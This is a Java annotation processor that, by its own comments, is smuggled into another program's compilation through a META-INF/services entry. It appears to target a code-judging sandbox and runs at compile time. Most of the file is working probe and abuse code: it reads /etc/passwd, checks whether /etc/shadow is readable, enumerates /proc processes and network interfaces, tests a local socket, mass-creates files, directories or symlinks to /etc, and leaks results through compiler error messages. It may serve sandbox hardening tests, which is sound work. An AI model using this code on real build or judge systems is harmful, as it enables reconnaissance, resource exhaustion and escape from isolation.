// Run, it prints its own class. With that and with a line of META-INF/services in its submission, the compiler of another one
// loads it and has it do what the file `what` says.

import java.io.IOException;
import java.net.NetworkInterface;
import java.nio.file.*;
import java.util.*;
import java.util.stream.Stream;
import javax.annotation.processing.*;
import javax.lang.model.element.TypeElement;
import javax.tools.Diagnostic;

@SupportedAnnotationTypes("*")
public class Processor extends AbstractProcessor {
    private static final Path CODE = Path.of("/code");

    private boolean done;

    public static void main(String[] words) throws IOException {
        System.out.print(Base64.getEncoder().encodeToString(Files.readAllBytes(CODE.resolve("Processor.class"))));
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        // Each round, the last too, calls it.
        if (done) return false;
        done = true;
        try {
            String[] what = Files.readString(CODE.resolve("what")).split(" ");
            switch (what[0]) {
                case "look": look(); break;
                case "directories": for (int i = 0; i < Integer.parseInt(what[1]); i++) Files.createDirectory(CODE.resolve("d" + i)); break;
                case "files": for (int i = 0; i < Integer.parseInt(what[1]); i++) Files.createFile(CODE.resolve("f" + i)); break;
                case "links": for (int i = 0; i < Integer.parseInt(what[1]); i++) Files.createSymbolicLink(CODE.resolve("l" + i), Path.of("/etc")); break;
            }
        } catch (Exception error) {
            say(error.toString());
        }
        return false;
    }

    // What of the machine can be had here; an error, so that it is told.
    private void look() throws Exception {
        say("accounts: " + Files.readAllLines(Path.of("/etc/passwd")).size());
        say("shadow: " + Files.isReadable(Path.of("/etc/shadow")));
        say("machine id: " + Files.exists(Path.of("/etc/machine-id")));
        try (Stream<Path> all = Files.list(Path.of("/proc"))) {
            say("processes: " + all.filter(path -> path.getFileName().toString().matches("[0-9]+")).count());
        }
        try {
            for (NetworkInterface one : Collections.list(NetworkInterface.getNetworkInterfaces())) say("network: " + one.getName());
        } catch (IOException error) {
            say("network: none");
        }
        try {
            new java.net.Socket("127.0.0.1", 80).close();
        } catch (Exception error) {
            say("socket: none");
        }
    }

    private void say(String words) {
        processingEnv.getMessager().printMessage(Diagnostic.Kind.ERROR, words);
    }
}
